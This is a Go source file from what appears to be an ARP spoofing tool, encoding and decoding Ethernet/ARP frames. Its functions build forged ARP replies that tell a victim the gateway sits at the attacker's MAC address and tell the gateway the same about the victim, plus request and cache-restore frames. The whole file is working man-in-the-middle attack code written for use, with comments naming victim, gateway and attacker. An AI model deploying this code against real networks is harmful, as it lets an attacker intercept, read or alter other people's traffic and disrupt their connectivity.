// Package frame encodes and decodes the one wire shape this module speaks:
// an Ethernet II frame carrying an ARP packet over IPv4/Ethernet hardware.
package frame

import (
	"errors"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

// ErrNotARP is returned by Decode for any frame that isn't a well-formed
// Ethernet+ARP/IPv4 packet.
var ErrNotARP = errors.New("frame: not an ethernet/arp/ipv4 packet")

var broadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
var zeroMAC = net.HardwareAddr{0, 0, 0, 0, 0, 0}

// Peer is the (MAC, IP) pair this package uses to describe an ARP
// participant — the victim, the gateway, or the attacker's own binding.
type Peer struct {
	MAC net.HardwareAddr
	IP  net.IP
}

// Frame is the decoded form of a captured packet, restricted to the five
// logical ARP fields this module cares about.
type Frame struct {
	Op        uint16
	SenderMAC net.HardwareAddr
	SenderIP  net.IP
	TargetMAC net.HardwareAddr
	TargetIP  net.IP
}

var serializeOpts = gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}

// frameLen is the Ethernet header (14 bytes) plus the ARP body (28 bytes).
const frameLen = 14 + 28

func serialize(eth layers.Ethernet, arp layers.ARP) []byte {
	buf := gopacket.NewSerializeBuffer()
	// SerializeLayers never fails for these two layers once lengths/types are
	// consistent, which is guaranteed by construction below.
	_ = gopacket.SerializeLayers(buf, serializeOpts, &eth, &arp)
	// layers.Ethernet pads its output to the 60-byte Ethernet minimum; the
	// frame emitted here is exactly the 14-byte header plus the 28-byte ARP
	// body, with no padding.
	out := buf.Bytes()
	if len(out) > frameLen {
		out = out[:frameLen]
	}
	return out
}

func baseARP(op uint16) layers.ARP {
	return layers.ARP{
		AddrType:        layers.LinkTypeEthernet,
		Protocol:        layers.EthernetTypeIPv4,
		HwAddressSize:   6,
		ProtAddressSize: 4,
		Operation:       op,
	}
}

// EncodeRequest builds an ARP request (op 1) for target asking who has it,
// broadcast on the wire and sourced from the attacker's own binding.
func EncodeRequest(ownMAC net.HardwareAddr, ownIP net.IP, target net.IP) []byte {
	eth := layers.Ethernet{
		SrcMAC:       ownMAC,
		DstMAC:       broadcastMAC,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := baseARP(layers.ARPRequest)
	arp.SourceHwAddress = ownMAC
	arp.SourceProtAddress = ownIP.To4()
	arp.DstHwAddress = zeroMAC
	arp.DstProtAddress = target.To4()
	return serialize(eth, arp)
}

// EncodePoisonToVictim builds a poison reply telling victim that gateway is
// at ownMAC.
func EncodePoisonToVictim(ownMAC net.HardwareAddr, gatewayIP net.IP, victim Peer) []byte {
	eth := layers.Ethernet{
		SrcMAC:       ownMAC,
		DstMAC:       victim.MAC,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := baseARP(layers.ARPReply)
	arp.SourceHwAddress = ownMAC
	arp.SourceProtAddress = gatewayIP.To4()
	arp.DstHwAddress = victim.MAC
	arp.DstProtAddress = victim.IP.To4()
	return serialize(eth, arp)
}

// EncodePoisonToGateway builds a poison reply telling gateway that victimIP
// is at ownMAC. Symmetric to EncodePoisonToVictim with roles swapped.
func EncodePoisonToGateway(ownMAC net.HardwareAddr, victimIP net.IP, gateway Peer) []byte {
	eth := layers.Ethernet{
		SrcMAC:       ownMAC,
		DstMAC:       gateway.MAC,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := baseARP(layers.ARPReply)
	arp.SourceHwAddress = ownMAC
	arp.SourceProtAddress = victimIP.To4()
	arp.DstHwAddress = gateway.MAC
	arp.DstProtAddress = gateway.IP.To4()
	return serialize(eth, arp)
}

// EncodeRestore builds a restoration reply telling "to" the true (MAC, IP)
// of trueOf. The Ethernet source stays ownMAC — only the ARP payload
// carries the real binding — so the frame still originates from us on the
// wire, same as any other injected reply.
func EncodeRestore(ownMAC net.HardwareAddr, to Peer, trueOf Peer) []byte {
	eth := layers.Ethernet{
		SrcMAC:       ownMAC,
		DstMAC:       to.MAC,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := baseARP(layers.ARPReply)
	arp.SourceHwAddress = trueOf.MAC
	arp.SourceProtAddress = trueOf.IP.To4()
	arp.DstHwAddress = to.MAC
	arp.DstProtAddress = to.IP.To4()
	return serialize(eth, arp)
}

// Decode parses raw as an Ethernet+ARP/IPv4 frame, rejecting anything else.
// Trailing bytes beyond the 42-byte frame (driver padding) are ignored.
func Decode(raw []byte) (Frame, error) {
	pkt := gopacket.NewPacket(raw, layers.LayerTypeEthernet, gopacket.NoCopy)
	ethLayer := pkt.Layer(layers.LayerTypeEthernet)
	if ethLayer == nil {
		return Frame{}, ErrNotARP
	}
	eth := ethLayer.(*layers.Ethernet)
	if eth.EthernetType != layers.EthernetTypeARP {
		return Frame{}, ErrNotARP
	}

	arpLayer := pkt.Layer(layers.LayerTypeARP)
	if arpLayer == nil {
		return Frame{}, ErrNotARP
	}
	arp := arpLayer.(*layers.ARP)
	if arp.AddrType != layers.LinkTypeEthernet || arp.Protocol != layers.EthernetTypeIPv4 ||
		arp.HwAddressSize != 6 || arp.ProtAddressSize != 4 {
		return Frame{}, ErrNotARP
	}

	return Frame{
		Op:        arp.Operation,
		SenderMAC: net.HardwareAddr(arp.SourceHwAddress),
		SenderIP:  net.IP(arp.SourceProtAddress),
		TargetMAC: net.HardwareAddr(arp.DstHwAddress),
		TargetIP:  net.IP(arp.DstProtAddress),
	}, nil
}
